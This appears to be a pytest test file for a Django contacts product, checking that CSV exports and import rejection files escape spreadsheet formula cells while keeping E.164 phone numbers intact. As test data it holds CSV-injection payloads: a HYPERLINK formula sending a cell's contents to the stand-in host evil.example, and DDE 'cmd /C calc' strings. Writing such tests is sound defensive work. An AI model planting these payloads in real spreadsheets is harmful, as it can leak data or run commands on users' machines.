"""Every CSV the product writes neutralises cells a spreadsheet would run as formulas,
and keeps plain E.164 phone numbers as they are."""
from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from contacts import imports
from contacts.tests.factories import ContactFactory
from outreach.csvfiles import neutralise
from outreach.services import create_staff_user

pytestmark = pytest.mark.django_db

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tx", "\rx"]


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_formula_cell_gets_a_leading_quote(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["+15551234567", "+447700900123", "Ann", "", "a=b", 42, None])
def test_plain_e164_numbers_and_ordinary_cells_are_kept(cell):
    assert neutralise(cell) == cell


def test_a_phone_that_is_not_plain_e164_is_neutralised():
    assert neutralise("+1 555 123 4567") == "'+1 555 123 4567"
    assert neutralise("+15551234567=1") == "'+15551234567=1"


def test_the_contacts_export_neutralises_formulas_but_keeps_e164_numbers(account):
    ContactFactory(
        account=account, e164_number="+15551234567", phone_number="+15551234567", first_name="=1+2",
        last_name="@SUM(A1)", company_name="-evil", custom_variables={"note": "fine"},
    )
    create_staff_user(account, "carol", "pw-for-tests-123", "manager")
    client = Client()
    client.login(username="carol", password="pw-for-tests-123")
    export = client.get("/contacts/export.csv")
    row = next(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert (row["first_name"], row["last_name"], row["company_name"]) == ("'=1+2", "'@SUM(A1)", "'-evil")
    assert (row["phone_number"], row["e164_number"]) == ("+15551234567", "+15551234567")


def test_the_rejected_rows_file_of_an_import_neutralises_the_uploaded_cells(account):
    raw = b'Phone,First Name\n"=cmd|\' /C calc\'!A0",Ann\n+15554000001,"@SUM(1)"\n'
    draft = imports.upload(account, filename="people.csv", raw=raw)
    job = imports.start_import(account, draft, mapping={"Phone": "phone_number", "First Name": "first_name"}, lists=[])
    imports.run_import(str(job.pk))
    job.refresh_from_db()
    rejected = list(csv.reader(io.StringIO(job.rejected_csv)))
    assert rejected[1][:3] == ["2", "'=cmd|' /C calc'!A0", "Ann"]
